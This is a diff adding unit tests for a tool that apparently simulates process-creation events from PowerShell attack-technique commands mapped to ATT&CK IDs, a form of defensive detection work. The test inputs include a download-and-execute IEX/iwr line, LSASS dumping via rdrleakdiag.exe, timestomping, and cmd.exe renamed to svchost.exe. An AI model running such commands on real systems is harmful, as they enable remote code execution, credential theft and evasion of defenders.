@@ -63,3 +63,39 @@ describe('powershell.exe arguments', () => {
     [['-File', 'x.ps1'], undefined],
   ])('%j → %s', (args, script) => expect(scriptFromArgs(args)).toBe(script));
 });
+
+describe('parser fixes from real tests', () => {
+  it('& $env:SYSTEMROOT\\system32\\runonce.exe runs the program (T1547.014 #2)', async () => {
+    const { run, commandLines } = await import('./synth-helpers.ts');
+    expect(commandLines(run('powershell', '& $env:SYSTEMROOT\\system32\\runonce.exe /AlternateShellStartup'))).toContain('"C:\\Windows\\system32\\runonce.exe" /AlternateShellStartup');
+  });
+});
+
+describe('programs by name and values that are not known', () => {
+  it('a program on PATH called by name is started (T1046 #3: nmap); a Get- noun, a function or a hashtable key is not', async () => {
+    const { run, processes } = await import('./synth-helpers.ts');
+    const images = (cmd: string) => processes(run('powershell', cmd)).map((f) => String(f['Image']).split('\\').pop());
+    expect(images('nmap 127.0.0.1')).toEqual(['powershell.exe', 'nmap.exe']);
+    expect(images('Item Variable:_')).toEqual(['powershell.exe']);
+    expect(images('function samfile { }\nsamfile -consoleoutput')).toEqual(['powershell.exe']);
+    expect(images("$e = @{\n  Start = '0x00000010'\n}")).toEqual(['powershell.exe']);
+  });
+  it('a program named by a missing payload function is not guessed (T1070.006 #8: timestomp from an unavailable script)', async () => {
+    const { simulateTest } = await import('../../src/lib/evaluate/events.ts');
+    const run = simulateTest({ guid: 'g', platforms: ['windows'], executor: 'powershell', elevationRequired: false, commandResolved: "IEX (iwr 'https://example.org/timestomp.ps1')\ntimestomp -dest x" });
+    expect(run.events.filter((e) => e.fields['EventID'] === 1).length).toBe(1);
+  });
+  it('a variable assigned different values in branches is unknown (T1003.001 #13)', async () => {
+    const { run, processes } = await import('./synth-helpers.ts');
+    const script = 'if (Test-Path x) {\n  $binary_path = "C:\\Windows\\System32\\rdrleakdiag.exe"\n} else {\n  $binary_path = "File not found"\n}\n& $binary_path /p 1';
+    expect(processes(run('powershell', script)).map((f) => f['Image'])).toEqual(['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe']);
+  });
+});
+
+describe('parenthesised concatenations', () => {
+  it('copy and Start-Process with ($env:TEMP + "\\svchost.exe") run the renamed cmd.exe (T1036.003 #7)', async () => {
+    const { run, processes } = await import('./synth-helpers.ts');
+    const p = processes(run('powershell', 'copy "$env:ComSpec" ($env:TEMP + "\\svchost.exe")\n$myT1036_003 = (Start-Process -PassThru -FilePath ($env:TEMP + "\\svchost.exe")).Id\nStop-Process -ID $myT1036_003'));
+    expect(p[1]).toMatchObject({ Image: 'C:\\Users\\atomic\\AppData\\Local\\Temp\\svchost.exe', OriginalFileName: 'Cmd.Exe' });
+  });
+});
